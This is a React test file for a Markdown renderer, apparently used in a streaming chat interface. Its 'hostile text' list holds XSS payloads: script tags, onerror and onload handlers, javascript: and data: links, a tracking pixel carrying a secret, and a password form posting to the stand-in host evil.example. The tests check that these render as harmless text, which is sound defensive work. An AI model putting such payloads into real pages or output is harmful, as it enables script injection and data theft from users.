import { render, screen } from "@testing-library/react";
import { Tooltip } from "radix-ui";
import { describe, expect, it } from "vitest";
import { Markdown } from "./Markdown";

const draw = (text: string, streaming = false) =>
  render(<Markdown streaming={streaming} text={text} />, { wrapper: Tooltip.Provider });

describe("hostile text", () => {
  const HOSTILE = [
    "<script>window.hacked = 1</script>",
    '<img src="x" onerror="window.hacked = 1">',
    "<svg onload=alert(1)><iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD4=)",
    "[click](vbscript:x)",
    "<javascript:alert(1)>",
    "[inside](/settings/data)",
    "[inside](//evil.example/x)",
    "![pixel](https://evil.example/p.png?secret=1)",
    "![pixel](javascript:alert(1))",
    "![pixel][ref]\n\n[ref]: https://evil.example/p.png",
    '<a href="javascript:alert(1)">x</a>',
    "<style>*{background:url(https://evil.example)}</style>",
    "<form action=https://evil.example><input name=password></form>",
    "```html\n<script>alert(1)</script>\n```",
    '[x](https://ok.example "onmouseover=alert(1)")',
  ];

  it.each(HOSTILE)("is drawn as harmless text: %s", (text) => {
    const { container } = draw(text);
    const bad =
      "script, img, iframe, style, form, input, svg [onload], [onerror], [onload], [onmouseover], object";
    expect(container.querySelectorAll(bad)).toHaveLength(0);
    for (const link of container.querySelectorAll("a")) {
      expect(link.getAttribute("href")).toMatch(/^(https?|mailto|tel):/);
      expect(link.getAttribute("rel")).toContain("noopener");
    }
  });
});

describe("Markdown", () => {
  it("shows a foreign image as a link that names its host", () => {
    draw("![A cat](https://evil.example/cat.png)");
    expect(screen.getByRole("link", { name: /A cat.*evil\.example/ })).toHaveAttribute(
      "href",
      "https://evil.example/cat.png",
    );
  });

  it("draws tables, task lists and code with its language", () => {
    draw("| a | b |\n|---|---|\n| 1 | 2 |\n\n- [x] done\n- [ ] open\n\n```ts\nconst a = 1;\n```");
    expect(screen.getByRole("cell", { name: "2" })).toBeVisible();
    expect(screen.getByRole("img", { name: "Done" })).toBeVisible();
    expect(screen.getByRole("region", { name: "Code: ts" })).toHaveTextContent("const a = 1;");
    expect(screen.getByRole("button", { name: "Copy code" })).toBeVisible();
  });

  it("closes open marks while it streams, and leaves them when it is done", () => {
    const { container, rerender } = draw("This is **bo", true);
    expect(container.querySelector("strong")).toHaveTextContent("bo");
    rerender(<Markdown text="This is **bo" />);
    expect(container.querySelector("strong")).toBeNull();
  });

  it("keeps finished blocks in place while the text grows", () => {
    const { container, rerender } = draw("First\n\nSec", true);
    const first = container.querySelector("p");
    rerender(<Markdown streaming text={"First\n\nSecond and more\n\nThird"} />);
    expect(container.querySelector("p")).toBe(first);
    expect(container.querySelectorAll("p")).toHaveLength(3);
  });

  it("puts an answer's headings below those of the page", () => {
    draw("# Title");
    expect(screen.getByRole("heading", { name: "Title", level: 3 })).toBeVisible();
  });
});
